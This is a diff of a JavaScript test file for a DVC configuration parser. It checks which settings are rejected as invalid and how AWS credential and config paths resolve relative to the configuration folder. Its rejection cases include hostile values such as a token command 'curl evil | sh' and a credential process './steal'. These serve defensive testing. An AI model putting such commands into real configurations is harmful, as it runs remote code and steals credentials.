@@ -23,15 +23,20 @@ it.each([
   ['url = ../store\nverify = maybe\n', 3],
   ['url = webdavs://host\nbearer_token_command = curl evil | sh\n', 3],
   ['url = s3://b\ncredential_process = ./steal\n', 3],
-  ['url = s3://b\nconfigpath = ../aws/config\n', 3],
-  ['url = s3://b\ncredentialpath = /home/me/project/aws\n', 3],
 ])('names the line of %j', (settings, line) => {
   const error = expect.objectContaining({ code: 'invalid-config', place: { file: '/home/me/project/.dvc/config', line } });
   expect(() => read(settings)).toThrow(error);
 });
 
-it('takes AWS files from outside of the project', () => {
-  expect(read('url = s3://b\nconfigpath = ~/.aws/config\ncredentialpath = /etc/aws\n')).toMatchObject({ credentialpath: '/etc/aws' });
+it('tells which AWS files the project names, and counts paths from the folder of the configuration', () => {
+  const paths = 'url = s3://b\nconfigpath = ../aws\ncredentialpath = ~/keys\n';
+  const file = '/home/me/project/.dvc/config';
+  expect(read(paths)).toMatchObject({
+    configpath: '/home/me/project/aws',
+    credentialpath: '~/keys',
+    namedByProject: { configpath: { file, line: 3 }, credentialpath: { file, line: 4 } },
+  });
+  expect(read(paths, '/home/me/.config/dvc/config')).toMatchObject({ configpath: '/home/me/.config/aws', namedByProject: {} });
 });
 
 it('tells what is unsupported or unknown', () => {
